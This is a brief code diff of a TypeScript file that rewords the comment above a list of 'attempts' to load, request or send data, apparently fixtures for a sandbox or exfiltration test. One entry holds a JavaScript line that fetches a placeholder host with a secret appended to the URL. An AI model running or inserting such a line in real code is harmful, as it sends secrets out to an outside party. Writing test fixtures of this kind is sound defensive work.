@@ -1,6 +1,6 @@
 import type { Attempt } from './attempt.ts'
 
-/** Ways to load, ask or send something. */
+/** Attempts to load, request or send. */
 export const LOADS: readonly Attempt[] = [
   { name: 'fetch', js: `await fetch('http://OUT/?' + secret)` },
   {
